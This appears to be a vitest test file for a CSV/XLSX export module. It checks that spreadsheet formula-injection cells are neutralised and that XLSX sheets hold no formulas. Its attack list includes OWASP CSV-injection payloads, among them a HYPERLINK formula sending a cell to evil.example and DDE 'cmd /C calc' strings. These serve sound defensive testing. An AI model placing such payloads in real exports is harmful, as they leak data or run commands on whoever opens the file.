import { parse } from 'csv-parse/sync'
import { strFromU8, unzipSync } from 'fflate'
import { readSheet } from 'read-excel-file/universal'
import { describe, expect, test } from 'vitest'
import { writeTable } from './table-file.ts'
import type { TableCell } from './table-file.ts'

/** As the list of OWASP ("CSV Injection") has them, and full-width forms of the signs. */
const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '-2+3+cmd|" /C calc"!A0',
  '="x","y"\n=1',
]
/** A cell that any spreadsheet would compute. */
const runs = (cell: string) => /^\s*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell)
const harmless = ['-12.5', '-3', '0', '61.875', "О'Ғани", 'а-б=в', 'Сәрсенов, Е. -', 'x@y.kz', '']

async function csvOf(rows: TableCell[][], delimiter: ',' | ';' = ','): Promise<string> {
  const file = await writeTable({ name: 't', columns: ['a', '=b'], rows, delimiter }, 'csv')
  return file.content as string
}
const cellsOf = (csv: string, delimiter: string) =>
  parse(csv, { bom: true, delimiter, relax_quotes: true, relax_column_count: true })

describe('a CSV', () => {
  test.each([',', ';'] as const)(
    'with "%s" has no cell that a spreadsheet runs, its header included',
    async (delimiter) => {
      const csv = await csvOf(
        attacks.map((attack) => [attack, `before ${attack}`]),
        delimiter,
      )
      const cells = cellsOf(csv, delimiter)
      expect(cells).toHaveLength(attacks.length + 1)
      expect(cells.flat().filter(runs)).toEqual([])
      for (const [index, attack] of attacks.entries())
        expect(cells[index + 1]?.[0]).toContain(attack.slice(-1))
    },
  )

  test.each([
    [',', ';'],
    [';', ','],
    [',', '\t'],
    [';', '\t'],
  ] as const)('with "%s" has none either when it is opened with "%s"', async (delimiter, other) => {
    const hidden = ['a;=1+1', 'b,=1+1', 'c\t@SUM(1)', 'd;＝1', 'e,-1+1', 'f\n=1']
    const csv = await csvOf(
      hidden.map((attack) => [attack, 'x']),
      delimiter,
    )
    expect(cellsOf(csv, other).flat().filter(runs)).toEqual([])
  })

  test('leaves negative numbers and what only looks similar as they are', async () => {
    const cells = cellsOf(await csvOf([...harmless.map((text) => [text, 'x']), [-12.5, -3]]), ',')
    expect(cells.slice(1, -1).map(([cell]) => cell)).toEqual(harmless)
    expect(cells.at(-1)).toEqual(['-12.5', '-3'])
  })
})

describe('an XLSX', () => {
  const read = async (rows: TableCell[][]) => {
    const file = await writeTable({ name: 't', columns: ['a', '=b'], rows }, 'xlsx')
    return {
      content: file.content as Buffer,
      cells: await readSheet(new Uint8Array(file.content as Buffer).buffer),
    }
  }

  test('has texts as texts, unchanged, and numbers as numbers', async () => {
    const { cells } = await read([...attacks.map((attack) => [attack, -1.5]), ['-12.5', null]])
    expect(cells[0]).toEqual(['a', '=b'])
    for (const [index, attack] of attacks.entries()) {
      expect([String(cells[index + 1]?.[0]).trim(), cells[index + 1]?.[1]]).toEqual([attack.trim(), -1.5])
    }
    expect(cells.at(-1)).toEqual(['-12.5', null])
  })

  test('names its sheet in words that a spreadsheet takes, and shows its columns whole', async () => {
    const partsOf = async (title?: string) => {
      const rows = [['Кафедра «Технология продовольственных продуктов»', 1]]
      const columns = ['Кто', 'Изменение до следующего периода']
      const table = { name: 'outlook-kazutb-teacher-total-department', columns, rows }
      const { content } = await writeTable(title === undefined ? table : { ...table, title }, 'xlsx')
      return unzipSync(content as Buffer)
    }
    const nameOf = async (title?: string) =>
      / name="([^"]*)"/.exec(strFromU8((await partsOf(title))['xl/workbook.xml']!))?.[1]
    expect(await nameOf('Прогноз по кафедрам')).toBe('Прогноз по кафедрам')
    expect(await nameOf("'2025/2026: [a]?'")).toBe('2025 2026   a')
    expect(await nameOf('?')).toBe('ustaz')
    expect((await nameOf())?.length).toBe(31)
    const sheet = strFromU8((await partsOf())['xl/worksheets/sheet1.xml']!)
    const widths = [...sheet.matchAll(/<col [^>]*width="([\d.]+)"/g)].map(([, width]) =>
      Math.floor(Number(width)),
    )
    expect(widths).toEqual([50, 18])
  })

  test('holds no formula', async () => {
    const { content } = await read(attacks.map((attack) => [attack, attack]))
    const sheet = strFromU8(unzipSync(content)['xl/worksheets/sheet1.xml']!)
    expect(sheet).toContain('<c ')
    expect(sheet).not.toMatch(/<f[ >]/)
    expect([...sheet.matchAll(/<c [^>]*>/g)].filter(([cell]) => !/ t="(s|inlineStr)"/.test(cell))).toEqual([])
  })
})
